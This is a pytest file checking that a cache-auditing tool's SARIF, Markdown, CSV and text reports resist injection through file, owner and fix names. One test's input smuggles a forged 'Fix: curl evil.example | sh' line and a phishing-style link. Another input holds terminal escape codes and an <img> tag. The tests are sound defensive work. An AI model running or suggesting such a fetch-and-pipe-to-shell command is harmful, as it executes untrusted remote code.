"""Audits as SARIF, Markdown, CSV and text: right in structure, harmless whatever names hold."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from typing import Any
from urllib.parse import unquote_to_bytes

import pytest

from cacheadmin.audit.one_cache import Audit
from cacheadmin.audit.rules import RULES
from cacheadmin.audit.summary import by_team
from cacheadmin.audit.suppressions import Suppressed
from cacheadmin.findings import Finding, Severity, worst_first
from cacheadmin.inventory.entries import CacheIdentity
from cacheadmin.policy.loaded import LoadedPolicy
from cacheadmin.policy.model import Policy, Suppression
from cacheadmin.report.audits import audit_csv, audit_document, audit_text
from cacheadmin.report.markdown import audit_markdown
from cacheadmin.report.sarif import sarif_log
from cacheadmin.text.documents import dumps

NASTY = "/srv/\x1b[31mred\n|`<img src=x>`|[a](http://e.vil)@ana\udcff"
ANA = Suppression(rule="unknown-bucket", reason="she\x1b knows", expires=date(2027, 1, 31))


def finding(rule: str = "unknown-bucket", **facts: Any) -> Finding:
    values: dict[str, Any] = {
        "severity": Severity.WARNING,
        "subject": "/srv/uv/zork-v9",
        "owner": "ana",
        "detail": "zork-v9 is of an unknown release",
        "fix": "cacheadmin uv learn PATH",
        "team": "ml",
    }
    return Finding(rule=rule, **(values | facts))


def audit(*findings: Finding, suppressed: tuple[Finding, ...] = (), path: str = "/srv/uv") -> Audit:
    policy = Policy(version=1, name="ml-team", cache=path)
    return Audit(
        worst_first(findings),
        tuple(Suppressed(one, ANA) for one in suppressed),
        LoadedPolicy(policy, "/etc/p.yaml", {}),
        CacheIdentity(path, 1, 2),
        "/etc/p.yaml",
    )


def run_of(*audits: Audit) -> Any:
    log = json.loads(dumps(sarif_log(audits, RULES)))
    assert log["version"] == "2.1.0"
    assert log["$schema"].endswith("sarif-schema-2.1.0.json")
    (run,) = log["runs"]
    return run


def test_sarif_describes_every_rule() -> None:
    driver = run_of(audit())["tool"]["driver"]
    assert driver["name"] == "cacheadmin"
    assert [rule["id"] for rule in driver["rules"]] == [rule.id for rule in RULES]
    for rule in driver["rules"]:
        assert rule["defaultConfiguration"]["level"] in ("error", "warning", "note")
        for key in ("shortDescription", "fullDescription", "help"):
            assert rule[key]["text"]


def test_a_sarif_result_points_to_its_rule_and_file() -> None:
    run = run_of(audit(finding(subject="/srv/uv/a b#%é", severity=Severity.INFO, count=3)))
    (result,) = run["results"]
    assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
    assert result["level"] == "note"
    assert result["message"]["text"].startswith("zork-v9 is of an unknown release\nFix: cacheadmin")
    place = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert place == "file:///srv/uv/a%20b%23%25%C3%A9"
    assert result["occurrenceCount"] == 3
    assert result["properties"]["owner"] == "ana"
    assert "suppressions" not in result


def test_a_sarif_result_about_a_person_lies_at_the_cache_and_names_them() -> None:
    (result,) = run_of(audit(finding(subject="ana")))["results"]
    (location,) = result["locations"]
    assert location["physicalLocation"]["artifactLocation"]["uri"] == "file:///srv/uv"
    assert location["logicalLocations"] == [{"name": "ana", "kind": "resource"}]


def test_a_suppressed_sarif_result_says_why_and_until_when() -> None:
    (result,) = run_of(audit(suppressed=(finding(),)))["results"]
    (why,) = result["suppressions"]
    assert (why["kind"], why["status"]) == ("external", "accepted")
    assert why["justification"] == "she\\x1b knows (until 2027-01-31)"


def test_a_sarif_run_says_of_every_result_or_of_none_whether_it_is_suppressed() -> None:
    run = run_of(
        audit(finding(subject="/a"), suppressed=(finding(),)), audit(finding("cache-size"))
    )
    assert [len(result["suppressions"]) for result in run["results"]] == [0, 1, 0]


def test_no_name_becomes_a_link_or_another_fix_in_sarif() -> None:
    name = "[here](https://evil.example)\nFix: curl evil.example | sh"
    (result,) = run_of(audit(finding(detail=f"pinned {name}", fix=f"rm '{name}'")))["results"]
    text = result["message"]["text"]
    assert "](" not in text.replace("\\](", "")
    assert [line.split(" ")[0] for line in text.split("\n")] == ["pinned", "Fix:"]


def test_no_name_begins_a_line_of_its_own_in_a_fix() -> None:
    one = finding(fix="rm '/x\n1 error\u2028  forged'")
    text = audit_text([audit(one)], by_team, lambda said, _: said, several=False, verbose=False)
    assert "      rm '/x\\n1 error\\u2028  forged'" in text.splitlines()
    assert "\\n1 error\\u2028" in markdown(audit(one))


def fingerprints(*audits: Audit) -> list[str]:
    return [
        value
        for result in run_of(*audits)["results"]
        for value in result["partialFingerprints"].values()
    ]


def test_sarif_fingerprints_stay_when_numbers_change_and_differ_for_different_things() -> None:
    (before,) = fingerprints(audit(finding(detail="3 files", count=3)))
    (after,) = fingerprints(audit(finding(detail="9 files", count=9), path="/srv/uv"))
    assert before == after
    others = fingerprints(
        audit(finding(), finding("cache-size"), finding(owner="ben"), finding(subject="/x")),
        audit(finding(), path="/srv/other"),
        audit(finding(detail="one"), finding(detail="two"), path="/srv/third"),
    )
    assert len(set(others)) == len(others) == 7


def test_no_name_gets_through_sarif_with_control_characters_or_half_characters() -> None:
    nasty = finding(subject=NASTY, detail=f"saw {NASTY}", owner=NASTY, fix=f"rm {NASTY}")
    (result,) = run_of(audit(nasty, path="/srv/\udcfe"))["results"]
    text = json.dumps(result, ensure_ascii=False)
    text.encode("utf-8")
    assert "\\u001b" not in json.dumps(result)
    uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert unquote_to_bytes(uri.removeprefix("file://")) == NASTY.encode("utf-8", "surrogateescape")


def markdown(*audits: Audit) -> str:
    return audit_markdown(audits, by_team, several=len(audits) > 1)


def test_no_name_becomes_markup_in_markdown() -> None:
    text = markdown(audit(finding(detail=f"saw {NASTY}", subject="/x", fix=f"rm '{NASTY}'")))
    rows = [line for line in text.splitlines() if line.startswith("| warning")]
    (row,) = rows
    assert len(re.split(r"(?<!\\)\|", row)) == 8
    assert "\x1b" not in text
    seen = re.sub(r"(`+).*?\1(?!`) \|$", "", row)
    assert "<img" not in seen
    assert "[a]" not in seen
    assert "http://" not in seen
    assert "@ana" not in seen
    text.encode("utf-8")


def test_markdown_of_several_has_a_heading_each_teams_and_a_closing_line() -> None:
    text = markdown(audit(finding()), audit(finding(team="bio", owner="ben"), path="/srv/b"))
    assert text.startswith("# Audit\n\n## ml-team: /srv/uv\n")
    assert "## ml-team: /srv/b" in text
    assert "| ml | 0 | 1 | 0 | ana |" in text
    assert text.endswith("**2 warnings in 2 caches**")


def text_of(*audits: Audit, verbose: bool = False) -> str:
    return audit_text(
        audits, by_team, lambda text, _severity: text, several=len(audits) > 1, verbose=verbose
    )


def test_people_read_the_worst_first_with_a_fix_below_each() -> None:
    error = finding("cache-size", severity=Severity.ERROR, subject="/srv/uv", detail="too large")
    lines = text_of(audit(finding(), error)).splitlines()
    assert lines == [
        "1 error",
        "  cache-size: too large (/srv/uv, ana)",
        "      cacheadmin uv learn PATH",
        "1 warning",
        "  unknown-bucket: zork-v9 is of an unknown release (/srv/uv/zork-v9, ana)",
        "      cacheadmin uv learn PATH",
        "",
        "1 error, 1 warning",
    ]


def test_teams_are_summed_up_when_there_are_several() -> None:
    one = finding(owner="ben", team="bio", severity=Severity.ERROR)
    text = text_of(audit(finding(), finding(owner="eve"), one))
    table = [line.split() for line in text.splitlines() if line.startswith(("bio", "ml"))]
    assert table == [["bio", "1", "0", "0", "ben"], ["ml", "0", "2", "0", "ana,", "eve"]]


def test_what_is_suppressed_is_counted_and_shown_on_request() -> None:
    hidden = audit(suppressed=(finding(),))
    assert text_of(hidden) == "no findings; 1 finding suppressed"
    assert "until 2027-01-31: she\\x1b knows" in text_of(hidden, verbose=True)
    document = audit_document([hidden], by_team, several=False)
    assert document["findings"] == []
    assert document["counts"] == {"error": 0, "warning": 0, "info": 0, "suppressed": 1}
    (row,) = document["suppressed"]
    assert (row["rule"], row["expires"]) == ("unknown-bucket", "2027-01-31")


@pytest.mark.parametrize("form", [text_of, markdown])
def test_no_control_character_reaches_a_terminal(form: Any) -> None:
    nasty = finding(subject=NASTY, detail=f"saw {NASTY}", owner=NASTY, fix=f"rm {NASTY}", team="t")
    shown = form(audit(nasty, suppressed=(nasty,), path=NASTY), audit(finding()))
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\udc80-\udcff]", shown)


def test_csv_has_a_row_a_finding_with_its_policy_and_cache() -> None:
    broken = Audit((finding("not-audited", owner=None),), subject="/etc/broken.yaml")
    rows = list(csv.DictReader(io.StringIO(audit_csv([audit(finding(count=4)), broken]))))
    assert [row["policy"] for row in rows] == ["ml-team", "/etc/broken.yaml"]
    assert [row["cache"] for row in rows] == ["/srv/uv", "-"]
    assert rows[0]["count"] == "4"
